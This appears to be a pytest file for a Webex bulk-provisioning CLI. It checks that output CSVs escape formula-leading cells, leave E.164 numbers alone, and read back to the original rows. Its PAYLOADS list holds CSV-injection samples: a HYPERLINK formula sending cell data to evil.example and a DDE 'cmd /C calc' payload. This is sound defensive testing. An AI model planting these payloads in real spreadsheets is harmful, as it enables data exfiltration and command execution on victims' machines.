"""Formula injection and E.164 through a whole run: cells starting with ``=``, ``+``, ``-``,
``@``, tab or CR are written with a leading ``'`` in every output CSV, valid E.164 numbers are
not, the files parse back to the same rows and columns, and submitting an output file again
reads back exactly the cells of the original input (the escape round-trips; a re-run of
``success.csv`` sends no write).

A cell starting with LF is not escaped: DESIGN §10 and OWASP's CSV-injection list name tab and
CR only. It is quoted (RFC 4180), so it cannot start a record, and it round-trips.
"""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from support import aside

from reliability import invariants
from reliability.conftest import scale
from webex_bulk.cli.commands import main
from webex_bulk.config import Settings
from webex_bulk.input.data_pipeline import OUTPUT_COLUMNS, read_rows, scan, unescape_cell

pytestmark = pytest.mark.timeout(300)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HEADER = (
    "entity_type",
    "name",
    "time_zone",
    "address1",
    "city",
    "state",
    "postal_code",
    "country",
    "email",
    "first_name",
    "last_name",
    "location",
    "extension",
    "phone_number",
    "title",
    "department",
    "queue_size",
    "notes",
    "@memo",
)
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+2",
    "\n=1+3",
    "-5",
    "'=already quoted",
    "''",
    "'",
    "=",
    "+1 408 555 0100",
)


def cells(**values: str) -> list[str]:
    """A row in HEADER order."""
    return [values.get(column, "") for column in HEADER]


def hostile_rows(users: int) -> Iterator[list[str]]:
    """A location, two numbers, users whose names, titles and free columns hold formulas, and
    rows that end rejected and pending with formulas in them too."""
    yield cells(
        entity_type="location",
        name="Formula HQ",
        time_zone="America/Los_Angeles",
        address1="1 Formula Way",
        city="San Jose",
        state="CA",
        postal_code="95134",
        country="US",
        notes="=1+1",
        **{"@memo": "@SUM(A1)"},
    )
    yield cells(entity_type="number", phone_number="+14085550100", location="Formula HQ")
    yield cells(entity_type="number", phone_number="+14085550101", location="Formula HQ")
    for index in range(users):
        payload = PAYLOADS[index % len(PAYLOADS)]
        yield cells(
            entity_type="user",
            email=f"formula{index:05d}@example.com",
            first_name=f"{payload}A" if payload.strip() else "A",
            last_name="-Lee" if index % 2 else "Lee",
            location="Formula HQ",
            extension=str(40_000 + index),
            phone_number="+14085550101" if index == 0 else "",
            title=payload,
            department=PAYLOADS[(index + 3) % len(PAYLOADS)],
            notes=PAYLOADS[(index + 5) % len(PAYLOADS)],
            **{"@memo": PAYLOADS[(index + 7) % len(PAYLOADS)]},
        )
    yield cells(entity_type="user", email="=not-an-email", first_name="+A", last_name="@B")
    yield cells(entity_type="call_queue", name="-Queue", location="Formula HQ", queue_size="-5")
    yield cells(entity_type="trunk", name="=Trunk", notes="+cmd")


def write_input(path: Path, users: int) -> Path:
    """The hostile input file (quoted where needed, so CR and LF stay inside their cells)."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow(HEADER)
        writer.writerows(hostile_rows(users))
    return path


def raw_rows(path: Path) -> list[list[str]]:
    """An output CSV parsed by the csv module, header first."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def input_cells(path: Path) -> dict[int, dict[str, str]]:
    """The cells of every row of an input file by line, as the reader hands them out."""
    settings = Settings()
    return {item.line: dict(item.cells) for item in read_rows(scan(path, settings), settings)}


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet would run the cell (the rule of DESIGN §10)."""
    return text[:1] in FORMULA_STARTS


def is_e164(text: str) -> bool:
    """A valid E.164 shape: ``+``, a non-zero digit, then digits, 8–15 in all."""
    return text.startswith("+") and text[1:].isdigit() and 8 <= len(text) - 1 <= 15


async def test_formulas_are_escaped_numbers_are_not_and_files_round_trip(
    simulator: Any, run_engine: Any, tmp_path: Path, figures: Any
) -> None:
    """Every output cell that would start a formula starts with ``'`` instead (E.164 numbers
    excepted), every output row has exactly the header's columns, unescaping gives back each
    input cell, re-reading rejected.csv and pending.csv gives back the original rows, and a
    run of success.csv as input sends no write."""
    users = scale(40, 3000)
    csv_path = write_input(tmp_path / "formulas.csv", users)
    original = input_cells(csv_path)
    async with simulator(seed=41) as sim:
        run = await run_engine(sim, csv_path)
        invariants.check_i1(run.result.run_dir, csv_path)
        before = await aside(sim, "counts")
        success_path = run.result.run_dir / "success.csv"
        copy = tmp_path / "resubmit" / "success.csv"
        copy.parent.mkdir()
        copy.write_bytes(success_path.read_bytes())
        again = await run_engine(sim, copy)
        after = await aside(sim, "counts")
    assert run.exit_code == 3
    escaped = e164 = 0
    for status in ("success", "rejected", "pending"):
        table = raw_rows(run.result.run_dir / f"{status}.csv")
        header, *body = table
        assert [unescape_cell(name) for name in header] == [*HEADER, *OUTPUT_COLUMNS]
        assert body, f"{status}.csv is empty"
        for row in body:
            assert len(row) == len(header)
            written = dict(zip(header, row, strict=True))
            line = int(written["_line"])
            for column, text in zip(HEADER, row, strict=False):
                source = original[line].get(column, "")
                assert unescape_cell(text) == source, (status, line, column)
                if starts_a_formula(source) and not is_e164(source):
                    assert text == "'" + source, (status, line, column)
                    escaped += 1
                if is_e164(source):
                    assert text == source
                    e164 += 1
                assert not starts_a_formula(text) or is_e164(text), (status, line, column)
    assert escaped > 0
    assert e164 > 0
    for status in ("rejected", "pending"):
        path = run.result.run_dir / f"{status}.csv"
        lines = [int(row[len(HEADER)]) for row in raw_rows(path)[1:]]
        again_cells = list(input_cells(path).values())
        assert [{k: c[k] for k in HEADER} for c in again_cells] == [
            {k: original[line].get(k, "") for k in HEADER} for line in lines
        ]
    invariants.check_i5(before, after, again.result.run_dir)
    figures(users=users, escaped_cells=escaped, e164_cells=e164, exit_code=run.exit_code)


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "\n"])
def test_each_leading_character_survives_a_write_and_a_re_read(start: str, tmp_path: Path) -> None:
    """A free-text cell starting with each risky character, written by ``validate --out`` as
    a rejected row and read again, comes back unchanged; only LF is written unescaped."""
    value = f"{start}cmd|' /C calc'!A0"
    path = tmp_path / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["entity_type", "email", "notes"])
        writer.writerow(["user", "not-an-email", value])
    out = tmp_path / "out"
    # The suite's own WEBEX_BULK_* switches would be refused as unknown settings.
    clean: dict[str, str | None] = {k: None for k in os.environ if k.startswith("WEBEX_BULK_")}
    result = CliRunner().invoke(main, ["validate", str(path), "--out", str(out)], env=clean)
    assert result.exit_code == 3, result.output
    header, row = raw_rows(out / "rejected.csv")
    written = dict(zip(header, row, strict=True))["notes"]
    assert written == (value if start == "\n" else "'" + value)
    (again,) = input_cells(out / "rejected.csv").values()
    assert again["notes"] == value
